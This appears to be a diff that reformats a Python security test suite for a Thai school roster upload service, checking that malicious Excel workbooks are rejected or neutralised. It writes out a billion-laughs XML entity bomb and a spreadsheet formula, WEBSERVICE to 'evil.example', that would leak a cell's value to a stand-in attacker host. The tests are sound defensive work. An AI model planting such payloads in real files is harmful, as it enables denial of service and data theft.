@@ -31,8 +31,9 @@ THAI = re.compile(r"[\u0e00-\u0e7f]")
 ROSTER_XML = "xl/worksheets/sheet2.xml"
 
 
-def patch(data: bytes, name: str, change: Callable[[str], str] | None = None, *,
-          extra: dict[str, bytes] | None = None) -> bytes:
+def patch(
+    data: bytes, name: str, change: Callable[[str], str] | None = None, *, extra: dict[str, bytes] | None = None
+) -> bytes:
     """The workbook with one part rewritten (and parts added): what a hand-made hostile file looks like."""
     out = io.BytesIO()
     with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
@@ -46,8 +47,9 @@ def patch(data: bytes, name: str, change: Callable[[str], str] | None = None, *,
     return out.getvalue()
 
 
-def rejected(world: World, data: bytes, code: str, filename: str = "roster.xlsx", *,
-             then_serve: bool = True) -> dict[str, Any]:
+def rejected(
+    world: World, data: bytes, code: str, filename: str = "roster.xlsx", *, then_serve: bool = True
+) -> dict[str, Any]:
     """Upload `data`: 422 with the error `code` and a Thai message, nothing stored, then a good upload works."""
     before = world.db.execute("SELECT COUNT(*) FROM pupils WHERE unit_code = ?", [SCHOOL]).fetchone()[0]
     resp = world.send(SCHOOL, SCHOOL, data, filename=filename)
@@ -98,13 +100,14 @@ def test_zip_bomb_by_total_size_and_part_count(world: World, limits: Callable[..
 
 
 def test_xml_bomb(world: World) -> None:
-    laughs = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
-              + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i else "&lol;" * 10}">'
-                        for i in range(9)) + "]>\n")
+    laughs = (
+        '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
+        + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i else "&lol;" * 10}">' for i in range(9))
+        + "]>\n"
+    )
     bomb = patch(world.workbook(SCHOOL), "xl/workbook.xml", lambda x: laughs + x.split("?>", 1)[1])
     assert "DOCTYPE" in rejected(world, bomb, "WORKBOOK_UNSAFE_XML")["errors"][0]["message"]
-    padded = patch(world.workbook(SCHOOL), ROSTER_XML,
-                   lambda x: x.replace("?>", "?>" + "<!-- padding -->" * 10_000, 1))
+    padded = patch(world.workbook(SCHOOL), ROSTER_XML, lambda x: x.replace("?>", "?>" + "<!-- padding -->" * 10_000, 1))
     rejected(world, padded, "WORKBOOK_UNSAFE_XML")  # a DOCTYPE could hide behind a long prolog
 
 
@@ -126,9 +129,11 @@ def test_a_200_mb_upload_to_lec_serve_is_413_before_it_is_read(tmp_path: Path) -
     with loadrun.LiveServer(tmp_path / "data") as server:
         client = loadrun.Client(server.base, code, loadrun.Outcome())
         token = client.http.headers["Authorization"]
-        head = (f"POST /api/v1/rounds/{ROUND}/units/{code}/workbook HTTP/1.1\r\nHost: 127.0.0.1\r\n"
-                f"Authorization: {token}\r\nContent-Type: multipart/form-data; boundary=x\r\n"
-                f"Content-Length: {200 * 1024 * 1024}\r\n\r\n").encode()
+        head = (
+            f"POST /api/v1/rounds/{ROUND}/units/{code}/workbook HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+            f"Authorization: {token}\r\nContent-Type: multipart/form-data; boundary=x\r\n"
+            f"Content-Length: {200 * 1024 * 1024}\r\n\r\n"
+        ).encode()
         with socket.create_connection(("127.0.0.1", server.port), timeout=30) as sock:
             sock.sendall(head)  # the headers alone are refused: no need to send (or spool) 200 MB
             answer = b""
@@ -153,8 +158,11 @@ def test_row_cap_names_the_limit(world: World, limits: Callable[..., None]) -> N
 
 def test_two_million_rows_declared(world: World) -> None:
     """A sheet declaring 2,000,000 rows is refused before it is parsed, naming the real limit."""
-    data = patch(world.workbook(SCHOOL), ROSTER_XML,
-                 lambda x: re.sub(r'<dimension ref="A1:([A-Z]+)\d+"', r'<dimension ref="A1:\g<1>2000004"', x))
+    data = patch(
+        world.workbook(SCHOOL),
+        ROSTER_XML,
+        lambda x: re.sub(r'<dimension ref="A1:([A-Z]+)\d+"', r'<dimension ref="A1:\g<1>2000004"', x),
+    )
     body = rejected(world, data, "WORKBOOK_TOO_MANY_ROWS")
     assert "200,000" in body["errors"][0]["message"] and "2,000,004" in body["errors"][0]["message"]
 
@@ -169,11 +177,15 @@ def test_a_real_two_million_row_workbook(world: World) -> None:
             if info.filename != ROSTER_XML:
                 dst.writestr(info.filename, src.read(info))
         with dst.open(ROSTER_XML, "w", force_zip64=True) as sheet:
-            sheet.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
-                        b'spreadsheetml/2006/main"><sheetData>')
+            sheet.write(
+                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
+                b'spreadsheetml/2006/main"><sheetData>'
+            )
             for r in range(5, 2_000_005):
-                sheet.write(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>1{r:012d}</t></is></c><c r="C{r}"'
-                            f' t="inlineStr"><is><t>สมชาย</t></is></c></row>'.encode())
+                sheet.write(
+                    f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>1{r:012d}</t></is></c><c r="C{r}"'
+                    f' t="inlineStr"><is><t>สมชาย</t></is></c></row>'.encode()
+                )
             sheet.write(b"</sheetData></worksheet>")
     rejected(world, out.getvalue(), "WORKBOOK_TOO_LARGE")
 
@@ -200,21 +212,26 @@ def test_formulas_are_never_evaluated_the_cached_value_is_stored(world: World) -
     def formula(x: str) -> str:
         cell = re.search(rf'<c r="C5" s="(\d+)" t="inlineStr"><is><t>{name}</t></is></c>', x)
         assert cell, "the first name's cell"
-        return x.replace(cell.group(0), f'<c r="C5" s="{cell.group(1)}" t="str"><f>WEBSERVICE("http://evil.'
-                                        f'example/"&amp;A5)</f><v>{name}</v></c>')
+        return x.replace(
+            cell.group(0),
+            f'<c r="C5" s="{cell.group(1)}" t="str"><f>WEBSERVICE("http://evil.example/"&amp;A5)</f><v>{name}</v></c>',
+        )
 
     resp = world.send(SCHOOL, SCHOOL, patch(data, ROSTER_XML, formula))
     assert resp.status_code == 200, resp.get_json()
-    stored = world.db.execute("SELECT first_name FROM pupils WHERE unit_code = ? AND row_no = 5",
-                              [SCHOOL]).fetchone()[0]
+    stored = world.db.execute("SELECT first_name FROM pupils WHERE unit_code = ? AND row_no = 5", [SCHOOL]).fetchone()[
+        0
+    ]
     assert stored == name  # the value Excel showed, never the formula, never a fetch
 
     def no_cache(x: str) -> str:  # a formula saved without its value (as openpyxl writes them)
-        return re.sub(r'<c r="C6" s="(\d+)" t="inlineStr"><is><t>[^<]*</t></is></c>',
-                      r'<c r="C6" s="\1"><f>1+1</f></c>', x)
+        return re.sub(
+            r'<c r="C6" s="(\d+)" t="inlineStr"><is><t>[^<]*</t></is></c>', r'<c r="C6" s="\1"><f>1+1</f></c>', x
+        )
 
-    body = rejected(world, patch(world.workbook(SCHOOL, world.roster(SCHOOL, n=3, seed=4)), ROSTER_XML, no_cache),
-                    "REQUIRED")
+    body = rejected(
+        world, patch(world.workbook(SCHOOL, world.roster(SCHOOL, n=3, seed=4)), ROSTER_XML, no_cache), "REQUIRED"
+    )
     assert body["errors"][0]["row"] == 6 and body["errors"][0]["column"] == "first_name"
 
 
@@ -227,8 +244,7 @@ def test_thai_and_control_characters(world: World) -> None:
     clean = world.roster(SCHOOL, n=4, seed=2)
     resp = world.send(SCHOOL, SCHOOL, world.workbook(SCHOOL, clean), filename="แบบฟอร์ม ป.๑ (ส่งซ้ำ).xlsx")
     assert resp.status_code == 200
-    assert world.db.execute("SELECT filename FROM uploads ORDER BY id DESC").fetchone()[0] == \
-        "แบบฟอร์ม ป.๑ (ส่งซ้ำ).xlsx"
+    assert world.db.execute("SELECT filename FROM uploads ORDER BY id DESC").fetchone()[0] == "แบบฟอร์ม ป.๑ (ส่งซ้ำ).xlsx"
 
 
 # --- property-based: whatever a cell holds, the validators and the route answer, never crash ---------
@@ -238,14 +254,39 @@ CELL = st.one_of(
     st.text(max_size=30),
     st.text(alphabet=st.characters(min_codepoint=0x0E00, max_codepoint=0x0E7F), max_size=20),
     st.text(alphabet=st.characters(codec="utf-8", categories=("Cc", "Cf", "Zs", "Nd")), max_size=10),
-    st.integers(min_value=-10**15, max_value=10**15),
+    st.integers(min_value=-(10**15), max_value=10**15),
     st.floats(allow_nan=False, allow_infinity=False),
     st.dates(min_value=date(1800, 1, 1), max_value=date(2600, 12, 31)),
-    st.sampled_from(["1101700203451", "0101700203451", "G644200000001", "ป.1", "อ.2", "ชาย", "หญิง",
-                     "เด็กชาย", "05/03/2561", "31/02/2560", "๑๑๐๑๗๐๐๒๐๓๔๕๑", "=1+1", "@SUM(A1)"]),
+    st.sampled_from(
+        [
+            "1101700203451",
+            "0101700203451",
+            "G644200000001",
+            "ป.1",
+            "อ.2",
+            "ชาย",
+            "หญิง",
+            "เด็กชาย",
+            "05/03/2561",
+            "31/02/2560",
+            "๑๑๐๑๗๐๐๒๐๓๔๕๑",
+            "=1+1",
+            "@SUM(A1)",
+        ]
+    ),
 )
-KEYS = ("citizen_id", "prefix", "first_name", "last_name", "sex", "birth_date", "grade", "room", "nationality",
-        "entry_date")
+KEYS = (
+    "citizen_id",
+    "prefix",
+    "first_name",
+    "last_name",
+    "sex",
+    "birth_date",
+    "grade",
+    "room",
+    "nationality",
+    "entry_date",
+)
 ROW = st.fixed_dictionaries({k: CELL for k in KEYS})
 CTX = RoundContext(2567, 2, as_of=date(2024, 11, 10), today=date(2024, 11, 1))
 
